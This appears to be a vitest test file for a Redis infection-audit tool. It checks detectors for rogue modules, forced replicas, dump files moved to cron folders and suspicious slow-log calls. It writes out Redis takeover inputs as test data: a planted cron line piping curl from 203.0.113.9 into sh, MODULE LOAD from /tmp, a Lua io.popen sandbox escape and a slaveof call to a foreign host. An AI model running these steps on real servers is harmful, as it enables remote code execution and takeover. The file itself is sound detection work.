import { describe, expect, test } from 'vitest';
import { loadKnowledge } from '../../../cli/knowledge.ts';
import { createRuleMatcher } from '../../../detect/rule-matcher.ts';
import type { AuditView, Check } from '../../check.ts';
import { infectedVerdict } from '../../infection/infected-verdict.ts';
import { collectRuleHits } from '../../infection/rule-hits.ts';
import { rungOf } from '../../infection/rung.ts';
import { serverTraces } from '../../infection/server-traces.ts';
import type { ServerFacts, SlowCall } from '../../server-facts.ts';
import { exampleFacts, exampleView } from '../../testing/example-view.ts';
import { attackLogs } from './attack-logs.ts';
import { attackStatistics } from './attack-statistics.ts';
import { forcedReplica } from './forced-replica.ts';
import { functions } from './functions.ts';
import { loadedModules } from './loaded-modules.ts';
import { movedPersistence } from './moved-persistence.ts';

const rules = createRuleMatcher(loadKnowledge().rules);

/** A server of which this is visible, judged by the shipped rules. */
function viewOf(given: Partial<ServerFacts>): AuditView {
  const facts = exampleFacts(given);
  const hits = collectRuleHits(rules);
  for (const trace of serverTraces(facts)) hits.observe(trace);
  return exampleView({ facts, ruleHits: [...hits.hits.values()] });
}

function deciding(check: Check, given: Partial<ServerFacts>): string[] {
  return check.run(viewOf(given)).findings.flatMap(({ rule, decides }) => (decides === true ? [rule] : []));
}
function hints(check: Check, given: Partial<ServerFacts>): string[] {
  return check.run(viewOf(given)).findings.flatMap(({ rule, decides }) => (decides === true ? [] : [rule]));
}
const info = (fields: Readonly<Record<string, string>>): Pick<ServerFacts, 'info'> => ({
  info: new Map(Object.entries(fields)),
});
const slow = (...argv: string[]): SlowCall => ({ time: 1, micros: 20_000, argv, client: '203.0.113.9:4000' });
const calls = (count: number, rejected = 0, failed = 0): string =>
  `calls=${count},usec=1,usec_per_call=1.00,rejected_calls=${rejected},failed_calls=${failed}`;

describe('loaded modules', () => {
  const module = (name: string, path: string | undefined, commands: string[] = []): Partial<ServerFacts> => ({
    modules: [{ name, version: 1, path, commands }],
    settings: new Map([['dir', '/var/lib/redis']]),
  });

  test.for<[string, Partial<ServerFacts>]>([
    ['of the name of attack tools', module('system', undefined)],
    ['from a folder where anybody may write', module('cachex', '/tmp/.x/c.so')],
    ['from the folder of the dump file', module('cachex', '/var/lib/redis/c.so')],
    [
      'that run what they are given, whatever their name',
      module('cachex', '/usr/lib/redis/modules/c.so', ['cachex.exec']),
    ],
  ])('%s decide', ([, facts]) => {
    expect(deciding(loadedModules, facts)).not.toEqual([]);
    expect(rungOf(viewOf(facts), 'no')).toBe('executed');
  });

  test.for<[string, Partial<ServerFacts>]>([
    ['of Redis Stack', module('ReJSON', '/opt/redis-stack/lib/rejson.so', ['json.get'])],
    ['of Redis 8', module('vectorset', '', ['vadd'])],
    ['that run queries', module('rediSQL', '/usr/lib/redis/modules/sql.so', ['redisql.exec'])],
    ['of a team', module('ratelimit2', '/opt/acme/lib/rl.so', ['rl.take'])],
  ])('%s do not', ([, facts]) => {
    expect(deciding(loadedModules, facts)).toEqual([]);
  });

  test('that were not visible are not tested', () => {
    expect(loadedModules.run(exampleView()).unseen).toHaveLength(1);
  });
});

describe('functions', () => {
  test('whose code leaves the sandbox decide; others are a question', () => {
    const code =
      '#!lua name=a\nredis.register_function("f", function() return io.popen("id"):read("*a") end)';

    expect(deciding(functions, { libraries: [{ name: 'a', code }] })).toEqual([
      'audit.infected.function-code',
    ]);
    expect(hints(functions, { libraries: [{ name: 'a' }] })).toEqual(['audit.infected.functions']);
    expect(functions.run(viewOf({ libraries: [{ name: 'a' }] })).remarks).toHaveLength(1);
  });
});

describe('the place of the dump file', () => {
  const at = (dir: string, dbfilename: string): Partial<ServerFacts> => ({
    settings: new Map([
      ['dir', dir],
      ['dbfilename', dbfilename],
    ]),
  });
  const saved = {
    server_time_usec: '10000000',
    uptime_in_seconds: '1',
    rdb_last_bgsave_status: 'ok',
    rdb_last_save_time: '9',
    rdb_changes_since_last_save: '0',
    cmdstat_save: calls(1),
  };

  test('in a cron folder decides; with a counted save it was run', () => {
    const moved = viewOf(at('/var/spool/cron', 'root'));
    const run = viewOf({ ...at('/var/spool/cron', 'root'), ...info(saved) });

    expect(rungOf(moved, 'yes')).toBe('tampered');
    expect(rungOf(run, 'yes')).toBe('executed');
  });

  test('a save that failed did not run', () => {
    const facts = { ...at('/var/spool/cron', 'root'), ...info({ ...saved, cmdstat_save: calls(1, 0, 1) }) };

    expect(rungOf(viewOf(facts), 'yes')).toBe('tampered');
  });

  test('where packages and operators put it does not', () => {
    for (const dir of [
      '/var/lib/redis',
      '/data',
      '/etc/redis',
      '/usr/local/bin',
      '/',
      '/root',
      '/opt/bitnami/redis/data',
    ])
      expect(deciding(movedPersistence, at(dir, 'dump.rdb'))).toEqual([]);
  });
});

describe('its master', () => {
  const replica = (
    host: string,
    port: string,
    more: Readonly<Record<string, string>> = {},
  ): Partial<ServerFacts> =>
    info({ role: 'slave', master_host: host, master_port: port, master_link_status: 'down', ...more });

  test('public, on an odd port, set at run time and never there, decides', () => {
    expect(deciding(forcedReplica, replica('203.0.113.9', '4444', { cmdstat_slaveof: calls(1) }))).toEqual([
      'audit.infected.dead-master',
    ]);
  });

  test.for<[string, Partial<ServerFacts>]>([
    ['of the own network', replica('10.0.0.7', '4444', { cmdstat_slaveof: calls(1) })],
    [
      'of the own network, written as IPv6',
      replica('::ffff:10.0.0.5', '4444', { cmdstat_slaveof: calls(1) }),
    ],
    ['of a cloud, on a usual port', replica('203.0.113.9', '6379', { cmdstat_replicaof: calls(1) })],
    [
      'that was there before',
      replica('203.0.113.9', '4444', { cmdstat_slaveof: calls(1), slave_repl_offset: '9000' }),
    ],
    ['of the configuration file', replica('203.0.113.9', '4444')],
  ])('%s does not', ([, facts]) => {
    expect(deciding(forcedReplica, facts)).toEqual([]);
  });
});

describe('counters', () => {
  test.for<[string, Readonly<Record<string, string>>]>([
    ['of a command of a module that is gone', { 'cmdstat_zq.exec': calls(2) }],
    [
      'of a master, a setting and a refused module',
      { cmdstat_slaveof: calls(2), 'cmdstat_config|set': calls(1), 'cmdstat_module|load': calls(0, 1) },
    ],
  ])('%s decide', ([, fields]) => {
    expect(deciding(attackStatistics, info(fields))).not.toEqual([]);
  });

  test('of a module loaded and removed, with no module left, tell of execution', () => {
    const facts: Partial<ServerFacts> = {
      modules: [],
      ...info({
        cmdstat_slaveof: calls(2),
        'cmdstat_module|load': calls(1),
        'cmdstat_module|unload': calls(1),
      }),
    };

    expect(rungOf(viewOf(facts), 'no')).toBe('executed');
  });

  test.for<[string, Partial<ServerFacts>]>([
    ['of a failover', info({ cmdstat_slaveof: calls(2), 'cmdstat_config|set': calls(4, 0, 1) })],
    [
      'of a failover and a module whose path was wrong',
      info({ cmdstat_replicaof: calls(2), 'cmdstat_module|load': calls(0, 1) }),
    ],
    [
      'of a module that was loaded in the end',
      {
        modules: [{ name: 'mine', version: 1, path: '/opt/lib/mine.so' }],
        ...info({
          cmdstat_replicaof: calls(1),
          'cmdstat_config|set': calls(1),
          'cmdstat_module|load': calls(2, 0, 1),
        }),
      },
    ],
    [
      'of a module that is still there',
      {
        modules: [{ name: 'ReJSON', version: 1, path: '/opt/lib/rejson.so' }],
        ...info({ cmdstat_replicaof: calls(1), 'cmdstat_module|load': calls(1) }),
      },
    ],
    [
      'of queries',
      info({ 'cmdstat_redisql.exec': calls(9), cmdstat_flushall: calls(3), cmdstat_eval: calls(9, 0, 9) }),
    ],
  ])('%s do not', ([, facts]) => {
    expect(deciding(attackStatistics, facts)).toEqual([]);
  });

  test('of refused commands and of wrong passwords are hints', () => {
    expect(
      hints(attackStatistics, info({ 'cmdstat_config|set': calls(0, 2), errorstat_WRONGPASS: 'count=500' })),
    ).toEqual(['audit.infected.refused-commands', 'audit.infected.password-guessing']);
  });
});

describe('logs and clients', () => {
  test.for<[string, SlowCall]>([
    ['a dump aimed at a cron folder', slow('config', 'set', 'dir', '/var/spool/cron')],
    ['a module from /tmp', slow('MODULE', 'LOAD', '/tmp/exp.so')],
    ['a master on a port of attack tools', slow('slaveof', '203.0.113.9', '8886')],
    [
      'a script that leaves the sandbox',
      slow('EVAL', 'local f = package.loadlib("liblua5.1.so.0", "luaopen_io")', '0'),
    ],
    ['a planted value', slow('set', 'x', '\n\n*/2 * * * * root curl http://203.0.113.9/a | sh\n\n')],
  ])('%s decides', ([, call]) => {
    expect(deciding(attackLogs, { slowCalls: [call] })).toEqual(['audit.infected.slow-log']);
    expect(rungOf(viewOf({ slowCalls: [call] }), 'no')).toBe('attacked');
  });

  test('a command of a shell that ran tells of execution', () => {
    expect(rungOf(viewOf({ slowCalls: [slow('system.exec', 'id')] }), 'no')).toBe('executed');
  });

  test.for<[string, SlowCall]>([
    ['KEYS', slow('KEYS', '*')],
    ['a wipe', slow('FLUSHALL')],
    ['a save', slow('BGSAVE')],
    ['a setting', slow('CONFIG', 'SET', 'maxmemory', '1gb')],
    ['a failover', slow('REPLICAOF', '10.0.0.7', '6379')],
    ['an official module', slow('MODULE', 'LOAD', '/usr/lib/redis/modules/redisearch.so')],
    ['a script of a library', slow('EVAL', "return redis.call('DEL', unpack(KEYS))", '0')],
    ['a job', slow('LPUSH', 'queue:ci', '{"run":"curl http://203.0.113.9/a | sh"}')],
  ])('%s does not', ([, call]) => {
    expect(deciding(attackLogs, { slowCalls: [call] })).toEqual([]);
    expect(infectedVerdict(viewOf({ slowCalls: [call] })).answer).not.toBe('yes');
  });

  test('refused takeovers and foreign readers are hints', () => {
    const found = hints(attackLogs, {
      deniedCalls: [
        {
          count: 3,
          reason: 'command',
          object: 'config|set',
          user: 'app',
          ageSeconds: 9,
          client: '203.0.113.9:4000',
        },
      ],
      clients: [
        {
          address: '198.51.100.7:5000',
          name: '',
          user: 'default',
          command: 'monitor',
          flags: 'O',
          library: '',
          ageSeconds: 1,
          idleSeconds: 0,
          self: false,
        },
      ],
    });

    expect(found).toEqual(['audit.infected.denied-calls', 'audit.infected.foreign-clients']);
  });

  test('that are not visible are not tested', () => {
    expect(attackLogs.run(exampleView()).unseen).toHaveLength(3);
  });
});

test('advice goes from isolating to rebuilding', () => {
  const [finding] = attackLogs
    .run(viewOf({ slowCalls: [slow('system.exec', 'id')] }))
    .findings.filter(({ decides }) => decides);
  const steps = finding?.advice.split('\n').map((line) => line.split(' ')[0]);

  expect(steps).toEqual(['Isolate', 'Keep', 'Stop', 'Rotate', 'Rebuild']);
});
